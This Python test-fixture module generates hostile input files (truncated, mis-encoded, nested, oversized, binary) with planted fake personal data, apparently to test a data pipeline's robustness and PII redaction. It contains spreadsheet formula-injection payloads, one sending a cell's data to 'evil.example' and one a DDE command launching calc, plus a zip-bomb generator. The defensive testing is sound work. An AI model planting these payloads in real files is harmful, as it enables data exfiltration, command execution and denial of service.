"""A generated corpus of hostile data files: truncated, binary, nested, huge, mis-encoded, bombs, PII everywhere.

`corpus(folder, rng)` writes the files and returns `(dataset, path)` pairs; `PLANTED`
holds the personal data written into them, which must never come out in clear.
"""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile
from pathlib import Path

DATASETS = (
    "creators", "enrollments", "surveys", "orders", "exclusions", "products", "invitations", "samples", "content",
)

# personal data planted in every kind of cell; none of it may come out in clear
PLANTED_EMAILS = ("siti.aminah@example.com", "Farid.Rahman+promo@shop.example.com.my", "wei@x.co")
PLANTED_PHONES = ("012-3456789", "+60 12-345 6789", "60198765432", "(03) 2161 2345", "011-1122 3344")
PLANTED = PLANTED_EMAILS + PLANTED_PHONES
# the digits of each planted phone (without the country or trunk prefix): they must not survive either
PLANTED_DIGITS = ("123456789", "198765432", "321612345", "1111223344")
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2")

HEADERS = {
    "creators": ["creator_id", "handle", "followers", "category", "state", "gmv_30d_myr", "avg_views_30d", "email", "phone", "remark"],
    "enrollments": ["creator_id", "registered_at", "is_new_creator", "phone", "remark"],
    "surveys": ["Timestamp", "Username", "Email Address", "Apa pendapat anda?", "Any other comments?"],
    "orders": ["order_id", "line_id", "creator_id", "order_time", "status", "gmv_myr", "remark"],
    "exclusions": ["creator_id", "reason"],
    "products": ["product_id", "name", "category", "price_myr", "sample_quota", "priority", "min_followers"],
    "invitations": ["creator_id", "invited_at", "account_manager", "remark"],
    "samples": ["sample_id", "creator_id", "product_id", "requested_at", "status", "shipped_at"],
    "content": ["content_id", "creator_id", "content_type", "posted_at", "views", "gmv_myr"],
}


def _pii(rng: random.Random) -> str:
    return rng.choice(PLANTED)


def good_rows(dataset: str, rng: random.Random, n: int = 12) -> list[list[str]]:
    """Return plausible rows with PII and formulas planted in the free-text (and some id) cells."""
    rows = []
    for i in range(n):
        creator = rng.choice([f"creator_{i}", f"@Creator_{i}", _pii(rng), rng.choice(FORMULAS)])
        remark = rng.choice(["ok", f"call me {_pii(rng)}", f"mail {_pii(rng)} now", rng.choice(FORMULAS), ""])
        if dataset == "creators":
            rows.append([creator, rng.choice([f"Handle {i}", _pii(rng), rng.choice(FORMULAS)]), "12.3K", "beauty",
                         "Selangor", "RM1,234.50", "4.5K", rng.choice(PLANTED_EMAILS), rng.choice(PLANTED_PHONES), remark])
        elif dataset == "enrollments":
            rows.append([creator, "2026-11-25 10:00:00", rng.choice(["yes", "no"]), rng.choice(PLANTED_PHONES), remark])
        elif dataset == "surveys":
            rows.append(["25/11/2026 14:02:11", creator, rng.choice(PLANTED_EMAILS),
                         rng.choice(["Bagus", "很好", "நல்ல", f"WhatsApp {_pii(rng)}"]), remark])
        elif dataset == "orders":
            rows.append([f"5770000000{i:08d}", f"{i}", creator, "2026-12-12T10:00:00+08:00",
                         rng.choice(["COMPLETED", "cancelled", _pii(rng)]), rng.choice(["12.50", "-3", "abc", ""]), remark])
        elif dataset == "exclusions":
            rows.append([creator, remark])
        elif dataset == "products":
            rows.append([f"P{i}", rng.choice([f"Serum {i}", _pii(rng), rng.choice(FORMULAS)]), "beauty",
                         rng.choice(["49.90", "-1", "x"]), str(i % 4), rng.choice(["1", "2", "9"]), "0"])
        elif dataset == "invitations":
            rows.append([creator, "2026-11-20 09:00:00", rng.choice(["Aisyah", _pii(rng)]), remark])
        elif dataset == "samples":
            rows.append([f"S{i}", creator, f"P{i % 3}", "2026-11-21 10:00", rng.choice(["SHIPPED", _pii(rng)]), ""])
        else:
            rows.append([f"C{i}", creator, rng.choice(["VIDEO", "live", _pii(rng)]), "2026-12-12 20:00",
                         "12.3K", rng.choice(["99.00", "RM1,000", "abc"])])
    return rows


def csv_bytes(header: list[str], rows: list[list[str]], delimiter: str = ",") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _xlsx(path: Path, sheets: dict[str, list[list[str]]]) -> None:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    workbook.save(path)


def _parquet(path: Path, columns: dict) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table(columns), path)


def _zip_bomb(path: Path) -> None:
    """An 'XLSX' whose one part unpacks 40 MB of zeros from a few dozen KB."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (40 << 20))


HEAVY = ("orders", "surveys")  # the multi-megabyte files and bombs, whose readers do not depend on the data set


def corpus(folder: Path, rng: random.Random) -> list[tuple[str, Path]]:
    """Write the hostile corpus into `folder`; return (dataset, path) for each file."""
    out: list[tuple[str, Path]] = []

    def add(dataset: str, name: str, data: bytes) -> None:
        path = folder / f"{dataset}__{name}"
        path.write_bytes(data)
        out.append((dataset, path))

    for dataset in DATASETS:
        header = HEADERS[dataset]
        rows = good_rows(dataset, rng)
        good = csv_bytes(header, rows)
        add(dataset, "pii_everywhere.csv", good)
        add(dataset, "semicolon_cp1252.csv", csv_bytes(header, rows, ";").decode().encode("cp1252", errors="replace"))
        add(dataset, "utf16.csv", b"\xff\xfe" + good.decode().encode("utf-16-le"))
        add(dataset, "utf16_odd_no_bom.csv", good.decode().encode("utf-16-le")[:-1])
        add(dataset, "shift_jis.csv", "名前,電話\n山田,012-3456789\n".encode("shift_jis"))
        for cut in sorted(rng.sample(range(1, len(good)), 3)):
            add(dataset, f"truncated_{cut}.csv", good[:cut])
        add(dataset, "unbalanced_quote.csv", good + b'"never closed, ' + PLANTED[0].encode() + b"\r\nx,y\r\n")
        if dataset in HEAVY:
            add(dataset, "huge_field.csv", csv_bytes(header, rows[:2]) + b'"' + b"A" * (5 << 20) + b'"\r\n')
            add(dataset, "huge_line_no_quotes.csv", csv_bytes(header, rows[:2]) + b"B" * (5 << 20) + b"\r\n")
        add(dataset, "ragged.csv", good + b"1,2\r\n" + ",".join(["x"] * 30).encode() + b"\r\n")
        add(dataset, "binary.csv", bytes(rng.getrandbits(8) for _ in range(4096)))
        add(dataset, "nul_bytes.csv", good.replace(b",", b"\x00", 3))
        add(dataset, "gzip.csv", b"\x1f\x8b\x08\x00" + bytes(rng.getrandbits(8) for _ in range(512)))
        add(dataset, "headerless_pii.csv", f"{PLANTED[0]},{PLANTED[3]}\r\nfoo,bar\r\n".encode())
        add(dataset, "only_header.csv", csv_bytes(header, []))
        add(dataset, "only_bom.csv", b"\xef\xbb\xbf")
        add(dataset, "empty.csv", b"")
        add(dataset, "duplicate_columns.csv", csv_bytes([*header, header[0]], [[*r, "dup"] for r in rows]))
        add(dataset, "duplicate_columns_case.csv", csv_bytes([*header, header[0].upper()], [[*r, "d"] for r in rows]))
        add(dataset, "formula_header.csv", csv_bytes(["=cmd|calc", *header], [["x", *r] for r in rows]))
        lines = [json.dumps(dict(zip(header, r, strict=False)), ensure_ascii=False) for r in rows]
        lines.insert(2, '{"creator_id": "broken line ' + PLANTED[1] + '", ')
        lines.insert(4, "[1, 2, 3]")
        lines.insert(5, "[" * 3000 + "]" * 3000)
        add(dataset, "broken_lines.jsonl", "\n".join(lines).encode())
        add(dataset, "json_scalar.json", b'"just a string"')
        add(dataset, "json_deep.json", b"[" * 100_000 + b"]" * 100_000)
        add(dataset, "json_truncated.jsonl", "\n".join(lines).encode()[: len(lines[0]) + 15])
        # workbooks: data on the second sheet, two data sheets, truncated, a bomb
        xlsx = folder / f"{dataset}__second_sheet.xlsx"
        _xlsx(xlsx, {"Summary": [["Total", "12"], ["by", PLANTED[2]]], "Data": [header, *rows]})
        out.append((dataset, xlsx))
        two = folder / f"{dataset}__two_data_sheets.xlsx"
        _xlsx(two, {"Week 1": [header, *rows[:5]], "Week 2": [header, *rows[5:]]})
        out.append((dataset, two))
        add(dataset, "truncated.xlsx", xlsx.read_bytes()[: len(xlsx.read_bytes()) // 2])
        if dataset in HEAVY:
            bomb = folder / f"{dataset}__bomb.xlsx"
            _zip_bomb(bomb)
            out.append((dataset, bomb))
        # parquet: nested columns (struct, list, map) beside the key columns, truncated, binary non-UTF-8
        columns = {name: [r[i] for r in rows] for i, name in enumerate(header)}
        nested = folder / f"{dataset}__nested.parquet"
        _parquet(nested, {**columns, "tags": [[PLANTED[0], "x"]] * len(rows), "meta": [{"phone": PLANTED[4], "n": 1}] * len(rows)})
        out.append((dataset, nested))
        key_nested = folder / f"{dataset}__nested_key.parquet"
        _parquet(key_nested, {**columns, header[0]: [{"id": r[0]} for r in rows]})
        out.append((dataset, key_nested))
        add(dataset, "truncated.parquet", nested.read_bytes()[:-40])
        import pyarrow as pa

        raw_binary = folder / f"{dataset}__binary_column.parquet"
        _parquet(raw_binary, {**columns, "blob": pa.array([b"\xff\xfe\x00" * 3] * len(rows), pa.binary())})
        out.append((dataset, raw_binary))
    return out
